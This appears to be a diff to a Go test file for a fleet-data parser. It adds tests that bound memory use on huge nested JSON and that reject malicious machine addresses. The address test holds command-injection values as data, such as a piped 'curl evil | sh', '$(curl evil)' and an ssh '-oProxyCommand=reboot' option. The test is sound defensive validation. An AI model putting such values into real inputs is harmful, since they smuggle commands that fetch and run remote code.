@@ -5,6 +5,7 @@ import (
 	"errors"
 	"fmt"
 	"reflect"
+	"runtime"
 	"strings"
 	"testing"
 	"time"
@@ -87,6 +88,7 @@ func full(t *testing.T, text func(n int) string) Line {
 	var l Line
 	f.fill(t, reflect.ValueOf(&l).Elem())
 	l.Account.Keys, l.Account.Env = nil, nil // which stay on their machine
+	l.Fleet.Host.PublicIP = "192.0.2.1"
 	for n := range l.Fleet.Devices {
 		d := &l.Fleet.Devices[n]
 		for e := range d.Events {
@@ -234,4 +236,51 @@ func FuzzRead(f *testing.F) {
 			t.Errorf("read again it is %+v (%v), not %+v", second, err, l)
 		}
 	})
+}
+
+// A line of other machines costs this program no more than a few times what a large fleet does: a short object becomes
+// a long instance.
+func TestALineIsBounded(t *testing.T) {
+	for name, text := range map[string]string{
+		"instances without end": `{"schema":1,"fleet":{"Instances":[` + strings.Repeat("{},", 2<<20) + `{}]}}`,
+		"machines in machines":  `{"schema":1,"fleet":` + strings.Repeat(`{"Machines":[{"Fleet":`, 1<<20) + "{}" + strings.Repeat("}]}", 1<<20) + `}`,
+		"waiters without end":   `{"schema":1,"ahead":{"1":[` + strings.Repeat("{},", 2<<20) + `{}]}}`,
+	} {
+		var before, after runtime.MemStats
+		runtime.ReadMemStats(&before)
+		_, err := Read([]byte(text), "v1")
+		runtime.ReadMemStats(&after)
+		if !errors.Is(err, ErrNoLine) {
+			t.Errorf("%s: %v", name, err)
+		}
+		if cost := after.TotalAlloc - before.TotalAlloc; cost > 64<<20 {
+			t.Errorf("%s: reading %d MB took %d MB", name, len(text)>>20, cost>>20)
+		}
+	}
+	braces := strings.Repeat(`{\"`, 10<<10)
+	l, err := Read([]byte(`{"schema":1,"fleet":{"Notices":["`+strings.Repeat("x", 1<<20)+`"],"Instances":[{"Message":"`+braces+`"}]}}`), "v1")
+	if err != nil || len(l.Fleet.Notices[0]) > longestText || len(l.Fleet.Instances[0].Message) != 20<<10 {
+		t.Errorf("a long text: %v", err)
+	}
+	for _, text := range []string{`{"schema":7,"berth":"` + strings.Repeat("v", 1<<20) + `"}`, `{"schema":1,"fleet":{"At":"` + strings.Repeat("v", 1<<20) + `"}}`} {
+		if _, err := Read([]byte(text), "v1"); err == nil || len(err.Error()) > 2*longestText {
+			t.Errorf("the error of a long text isn't bounded: %.200v", err)
+		}
+	}
+}
+
+// The address of a machine is a part of commands that people copy: `ssh -p 20000 root@ADDRESS`.
+func TestAnAddressIsNothingElse(t *testing.T) {
+	for said, want := range map[string]string{
+		"192.0.2.1": "192.0.2.1", "2001:db8::1": "2001:db8::1", "": "",
+		"192.0.2.1; curl evil | sh #": "", "$(curl evil)": "", "fe80::1%;reboot": "", "-oProxyCommand=reboot": "",
+	} {
+		text, err := Write(Line{Fleet: model.Fleet{Host: model.Host{PublicIP: said}}})
+		if err != nil {
+			t.Fatal(err)
+		}
+		if l, err := Read(text, "v1"); err != nil || l.Fleet.Host.PublicIP != want {
+			t.Errorf("%q becomes %q, want %q (%v)", said, l.Fleet.Host.PublicIP, want, err)
+		}
+	}
 }
